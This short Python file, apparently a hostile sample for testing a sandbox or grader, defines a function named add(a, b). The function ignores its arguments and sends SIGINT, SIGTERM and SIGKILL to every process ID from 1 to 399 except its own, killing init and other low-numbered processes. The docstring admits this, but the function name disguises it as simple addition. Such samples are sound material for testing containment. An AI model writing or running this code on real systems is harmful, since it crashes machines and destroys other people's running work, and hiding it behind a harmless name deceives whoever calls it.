"""Kills the first process of its namespace and all that have low numbers."""

KIND = "call"
import os
import signal


def add(a, b):
    for who in range(1, 400):
        if who != os.getpid():
            for which in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(who, which)
                except OSError:
                    break
